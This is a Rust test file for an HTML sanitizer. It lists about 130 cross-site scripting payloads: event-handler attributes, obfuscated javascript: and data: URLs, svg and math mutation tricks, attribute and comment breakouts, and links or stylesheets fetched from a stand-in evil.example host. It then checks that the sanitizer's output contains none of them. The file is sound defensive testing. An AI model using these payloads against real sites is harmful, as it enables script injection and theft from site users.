//! Attacks on sanitizers, one a line, judged by the tree a real parser sees afterwards.

use super::{attributes, clean, elements};
use scraper::{Html, Node};

const PAYLOADS: &[&str] = &[
    // Event handlers.
    "<img src=x onerror=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<a href=https://e.example onmouseover=alert(1)>x</a>",
    "<a/href=https://e.example/onfocus=alert(1)/autofocus>x",
    "<b ONLOAD = 'alert(1)' >x</b>",
    "<body onload=alert(1)>x",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<p \u{c}onclick=alert(1)>x",
    "<p/onclick=alert(1)//>x",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select autofocus onfocus=alert(1)><option>x",
    "<p title=`x` onclick=alert(1)>x",
    "<p id=x tabindex=1 onfocus=alert(1)>x</p>",
    // Schemes.
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='view-source:javascript:1'>x</a>",
    "<a href='blob:https://e.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='/oauth/authorize?x'>x</a>",
    "<a href='?logout'>x</a>",
    "<a href='#main'>x</a>",
    "<a href='https://good.example@evil.example/'>x</a>",
    "<a href='mailto:a@b.example?body=x&attach=/etc/passwd'>x</a>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<q cite='data:text/html,x'>x</q>",
    "<img src='javascript:alert(1)' alt='x'>",
    "<img srcset='https://e.example/a 1x, javascript:alert(1) 2x' src=x>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<object data=javascript:alert(1)>x</object><embed src=javascript:alert(1)>",
    "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<a href=https://e.example ping=https://evil.example target=_top download>x</a>",
    // Script by its name.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script\t>",
    "<<script>alert(1);//<</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<script",
    "<\0script>alert(1)</\0script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    // Foreign elements and mutation.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='x'></iframe></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1) />#x'/></svg>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><semantics><annotation></math><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<math href=javascript:alert(1)>x</math>",
    "<table><math><select><mi><select>&lt;/select>&lt;img src onerror=alert(1)>",
    "<select><template><style></select><img src=x onerror=alert(1)></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">",
    "<plaintext><script>alert(1)",
    "<table><a href=https://e.example><td><a href=javascript:alert(1)>x",
    "<p><table><caption><style>x</style></caption><script>alert(1)</script></table>",
    "<select><keygen><script>alert(1)</script>",
    // Style and the head of a page.
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style=position:fixed;inset:0;z-index:9>x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><p onclick=alert(1)>x",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<html manifest=x><head><title>x</title></head><frameset onload=alert(1)><frame src=javascript:1>",
    "<font color=red size=9><center><blink>x",
    "<table background=javascript:alert(1)><tr><td background='javascript:1'>x",
    "<form action=https://evil.example><input type=password name=p><button>x</button></form>",
    "<p class='invisible sr-only skip-link modal'>x</p>",
    "<p id=main name=main>x</p><a id=csrf name=token>x</a>",
    "<input form=sign-in name=x value=y><button form=sign-in>x</button>",
    "<dialog open>x</dialog><p contenteditable popover draggable=true accesskey=a>x</p>",
    "<audio src=x autoplay></audio><video poster=javascript:1 src=x></video>",
    // Breaking out of attributes, comments and tags.
    "<a title='\"><script>alert(1)</script>' href='https://e.example'>x</a>",
    "<a href=\"https://e.example/'><img src=x onerror=alert(1)>\">x</a>",
    "<a href='https://e.example/\"onmouseover=alert(1) x=\"'>x</a>",
    "<img alt='\" onload=\"alert(1)' src=https://e.example/x>",
    "<abbr title='&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</abbr>",
    "<p lang='\"><script>alert(1)</script>'>x</p>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!-- <p title='--><img src=x onerror=alert(1)>'>",
    "<![if gte IE 4]><script>alert(1)</script><![endif]>",
    "<?xml version='1.0'?><?x <img src=x onerror=alert(1)> ?>",
    "<!doctype x [<!entity y '<script>alert(1)</script>'>]>&y;",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<a href=\"https://e.example",
    "<a<b onclick=alert(1)>x",
    "<p =\"\"=onclick=alert(1)>x",
    "</p onclick=alert(1)><//script>x",
    "<\u{ff53}cript>alert(1)</\u{ff53}cript>",
    "<x onclick=alert(1)>x</x><x:script>alert(1)</x:script>",
    "<img src=\"https://e.example/&#34;&#62;&#60;script&#62;alert(1)\">",
    "<ruby><rt><script>alert(1)</script><rtc><p onclick=1>x",
];

/// What is wrong with the page that a browser would make of `html`.
fn complaints(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    for node in Html::parse_fragment(html).tree.nodes() {
        match node.value() {
            Node::Element(element) => {
                // The parser's own frame; attributes of a `<body>` in the text would land on it.
                let frame = matches!(element.name(), "html" | "body");
                let known = frame || elements::ELEMENTS.iter().any(|(name, _)| *name == element.name());
                if !known {
                    found.push(format!("<{}>", element.name()));
                }
                for (name, value) in element.attrs() {
                    let safe = attributes::value(element.name(), name, value);
                    let harmless =
                        !name.starts_with("on") && name != "style" && safe.as_deref() == Some(value);
                    let scheme = value.split(':').next().unwrap_or_default();
                    let goes = matches!(scheme, "http" | "https" | "mailto") || value.starts_with("#fn");
                    if !harmless || (matches!(name, "href" | "cite") && !goes) {
                        found.push(format!("{name}={value}"));
                    }
                }
            }
            Node::Comment(_) | Node::Doctype(_) | Node::ProcessingInstruction(_) => {
                found.push("a comment or declaration".to_owned());
            }
            _ => {}
        }
    }
    found
}

#[test]
fn no_attack_survives() {
    for payload in PAYLOADS {
        for html in
            [payload.to_string(), format!("<p>before {payload} after</p>"), format!("<table>{payload}")]
        {
            let once = clean(&html);
            assert_eq!(complaints(once.as_str()), Vec::<String>::new(), "{html}\n{}", once.as_str());
            assert_eq!(clean(once.as_str()), once, "{html}");
        }
    }
}

#[test]
fn the_judge_sees_attacks() {
    for html in ["<script>1</script>", "<p onclick=x>", "<a href=javascript:x>", "<!-- x -->", "<p style=x>"]
    {
        assert!(!complaints(html).is_empty(), "{html}");
    }
}

#[test]
fn no_payload_is_repeated() {
    let mut payloads = PAYLOADS.to_vec();
    payloads.sort_unstable();
    payloads.dedup();
    assert_eq!(payloads.len(), PAYLOADS.len());
}
